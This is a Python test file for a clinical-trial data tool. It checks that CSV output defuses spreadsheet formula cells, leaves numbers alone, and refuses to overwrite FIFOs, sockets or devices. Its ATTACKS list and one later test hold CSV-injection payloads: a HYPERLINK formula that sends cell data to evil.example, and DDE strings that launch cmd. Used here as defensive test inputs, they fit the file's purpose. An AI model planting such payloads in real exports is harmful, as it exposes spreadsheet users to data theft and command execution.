"""Output safety (decisions §19): every CSV the tool writes neutralises text cells a spreadsheet would
execute (CSV injection; OWASP "CSV Injection": cells starting with =, +, -, @, tab or carriage return get a
leading single quote), numbers are never altered, and `--out` never replaces a device, FIFO or socket."""

from __future__ import annotations

import csv
import io
import math
import os
import socket
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cartrial.cli import main
from cartrial.errors import InputError
from cartrial.tabular import FORMULA_TRIGGERS, csv_text, emit_table, neutralise_cell, write_atomic

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_formula_cells_get_a_leading_quote_and_numbers_stay(tmp_path: Path) -> None:
    """A subject id `=HYPERLINK(...)` is written as `'=HYPERLINK(...)`; -5 and -0.3 (numbers, or text that
    is a plain number) are written as they are."""
    frame = pd.DataFrame(
        {
            "subject_id": [*ATTACKS, "SCR-001", "-5", "-0.3"],
            "value": [-5, -0.3, 1.0, np.nan, 2.0, 3.0, 4.0, -1e-3, 0.0],
            "count": [-5, -4, -3, -2, -1, 0, 1, 2, 3],
        }
    )
    out = tmp_path / "out.csv"
    emit_table(frame, out, as_json=False)
    rows = _rows(out.read_bytes().decode("utf-8"))  # no newline translation: a \r cell stays one
    ids = [row[0] for row in rows[1:]]
    assert ids[: len(ATTACKS)] == ["'" + attack for attack in ATTACKS]
    assert ids[len(ATTACKS) :] == ["SCR-001", "-5", "-0.3"]
    assert [row[1] for row in rows[1:3]] == ["-5.0", "-0.3"] and rows[8][1] == "-0.001"
    assert [row[2] for row in rows[1:]] == [str(n) for n in range(-5, 4)]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell


def test_stdout_csv_and_header_are_neutralised(capsys: pytest.CaptureFixture[str]) -> None:
    """The same rule on stdout, and for a column name echoed from the input."""
    emit_table(pd.DataFrame({"=cmd()": ["@x"], "ok": ["+1"]}), None, as_json=False)
    rows = _rows(capsys.readouterr().out)
    assert rows == [["'=cmd()", "ok"], ["'@x", "+1"]]


def test_json_output_is_not_altered(capsys: pytest.CaptureFixture[str]) -> None:
    """JSON is data for programs, not a spreadsheet: values are written as given."""
    emit_table(pd.DataFrame({"subject_id": ["=1+1"]}), None, as_json=True)
    assert '"=1+1"' in capsys.readouterr().out


def test_a_frame_without_risky_cells_is_written_unchanged() -> None:
    """No copy, no change: the ordinary output is byte-identical to pandas' CSV."""
    frame = pd.DataFrame({"a": ["x", None, "y-1"], "b": [1.5, -2.0, np.nan], "c": [True, False, True]})
    assert csv_text(frame) == frame.to_csv(index=False, lineterminator="\n")


@given(st.text(max_size=20))
def test_neutralised_text_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    """Property: the written cell is the original, with at most one leading quote added; it starts with a
    trigger only when it is a plain number or the lone dash a table writes for "not applicable" (nothing
    follows the trigger, so nothing can run)."""
    safe = neutralise_cell(text)
    assert safe in (text, "'" + text)
    if safe.startswith(FORMULA_TRIGGERS) and safe != "-":
        float(safe)  # a plain number such as "-5" (raises otherwise)


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_numbers_as_text_are_never_altered(number: float) -> None:
    """Property: the text of a number (as a CSV echoes it) is never prefixed."""
    assert neutralise_cell(repr(number)) == repr(number) or "e" in repr(number) or "inf" in repr(number)


# ------------------------------------------------------------------------- --out: regular files only


def test_fifo_target_is_refused_without_blocking(tmp_path: Path) -> None:
    """A FIFO as --out used to be replaced by a regular file: refused, left in place."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="FIFO"):
        write_atomic(fifo, "a\n")
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_socket_target_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "s.sock"
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(path))
        with pytest.raises(InputError, match="socket"):
            write_atomic(path, "a\n")
        assert stat.S_ISSOCK(path.stat().st_mode)
    finally:
        server.close()


def test_device_target_is_refused(tmp_path: Path) -> None:
    """/dev/null reached through a link (so that a failure could only replace the link, never the device
    node): refused as a device."""
    link = tmp_path / "null.csv"
    link.symlink_to("/dev/null")
    with pytest.raises(InputError, match="device"):
        write_atomic(link, "a\n")
    assert link.is_symlink() and stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_existing_regular_file_is_still_replaced(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old\n")
    write_atomic(target, "new\n")
    assert target.read_text() == "new\n"


def test_cli_out_fifo_exits_2(tmp_path: Path, examples_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Through a command: `cartrial screen … --out FIFO` is a located error, exit 2, FIFO kept."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    study = examples_dir / "ct103a-nmosd"
    code = main(
        [
            "screen",
            str(study / "protocol.yaml"),
            str(study / "candidates" / "cand-01-eligible.yaml"),
            "--out",
            str(fifo),
        ]
    )
    err = capsys.readouterr().err
    assert code == 2 and "FIFO" in err and str(fifo) in err
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_a_carriage_return_inside_a_cell_reads_back_intact(tmp_path: Path) -> None:
    """A cell with a carriage return is quoted, so even a universal-newline reader keeps the row whole."""
    out = tmp_path / "cr.csv"
    emit_table(pd.DataFrame({"note": ["line1\rline2", "plain"], "n": [1, 2]}), out, as_json=False)
    with out.open(encoding="utf-8") as handle:  # universal newlines, as a spreadsheet import would
        rows = list(csv.reader(handle))
    assert len(rows) == 3 and rows[2] == ["plain", "2"]


def test_string_and_categorical_columns_are_neutralised_too() -> None:
    """Typed frames from the Python API: pandas "string" and categorical columns get the same rule."""
    frame = pd.DataFrame(
        {
            "a": pd.Series(["=1+1", "ok", None], dtype="string"),
            "b": pd.Series(["@x", "y", "@x"], dtype="category"),
        }
    )
    rows = _rows(csv_text(frame))
    assert rows == [["a", "b"], ["'=1+1", "'@x"], ["ok", "y"], ["", "'@x"]]


def test_kinetics_simulate_out_fifo_or_device_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`kinetics simulate --out` streams through its own writer, which replaced a FIFO (and, run as root,
    /dev/null itself) with a regular file; refused before simulating, the node left in place."""
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    link = tmp_path / "null.csv"
    link.symlink_to("/dev/null")
    for target, kind in ((fifo, "FIFO"), (link, "device")):
        for option in ("--out", "--params-out"):
            code = main(["kinetics", "simulate", "--subjects", "2", "--days", "0:7", option, str(target)])
            err = capsys.readouterr().err
            assert code == 2 and kind in err and str(target) in err, err
    assert stat.S_ISFIFO(fifo.stat().st_mode)
    assert link.is_symlink() and stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_write_chunks_refuses_a_fifo(tmp_path: Path) -> None:
    """The chunked writer itself (not only the command's early check) refuses a FIFO."""
    from cartrial.commands.kinetics_commands import _write_chunks

    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="FIFO"):
        _write_chunks(iter([pd.DataFrame({"a": [1]})]), fifo, False, {})
    assert stat.S_ISFIFO(fifo.stat().st_mode)


def test_popfit_and_map_csv_files_are_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`kinetics popfit` (ebe.csv, diagnostics.csv) and `kinetics map` (map_parameters.csv) wrote subject
    ids such as =HYPERLINK(...) as they were (pandas' to_csv, not `csv_text`)."""
    root = Path(__file__).resolve().parents[1]
    study = root / "examples" / "ct103a-nmosd" / "study"
    attack = '=HYPERLINK("http://x")'
    pk = tmp_path / "pk.csv"
    with (study / "pk_samples.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    with pk.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [rows[0], *([attack if c == "CT-001" else c for c in r] for r in rows[1:])]
        )
    fit = tmp_path / "fit"
    args = ["kinetics", "popfit", str(pk), "--k1", "2", "--k2", "1", "--no-figures", "--out", str(fit)]
    assert main(args) == 0, capsys.readouterr().err
    mapped = tmp_path / "map"
    population = root / "tests" / "data" / "popfit" / "estimates.json"
    args = [
        "kinetics",
        "map",
        str(pk),
        "--patient",
        attack,
        "--population",
        str(population),
        "--out",
        str(mapped),
    ]
    assert main(args) == 0, capsys.readouterr().err
    written = [fit / "ebe.csv", fit / "diagnostics.csv", mapped / "map_parameters.csv"]
    for path in written:
        cells = [cell for row in _rows(path.read_text(encoding="utf-8")) for cell in row]
        assert "'" + attack in cells, path
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), path


def test_a_float_is_written_without_binary_noise() -> None:
    """D-19.221: 1 - 0.1 (a Kaplan-Meier survival of 9/10 by products) was written 0.8999999999999999; a
    CSV output now writes 15 significant digits, in the shortest form ("2.0" stays "2.0")."""
    frame = pd.DataFrame({"survival": [1 - 0.1, 2.0, 0.1 + 0.2], "n": [1, 2, 3]})
    assert csv_text(frame).splitlines()[1:] == ["0.9,1", "2.0,2", "0.3,3"]


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_written_float_keeps_15_significant_digits(value: float) -> None:
    """What is written reads back within the 15th significant digit, and never with more digits than
    15 (`csv_float`) — except the largest doubles, whose 15-digit rounding would overflow to inf: they are
    written as they are."""
    from cartrial.tabular import csv_float

    text = csv_float(value)
    back = float(text)
    assert math.isclose(back, value, rel_tol=5e-15, abs_tol=0.0) or back == value
    mantissa = text.lower().split("e")[0].replace("-", "").replace(".", "").lstrip("0")
    if math.isfinite(float(f"{value:.15g}")):  # not one of the largest doubles, written as they are
        assert len(mantissa.rstrip("0")) <= 15
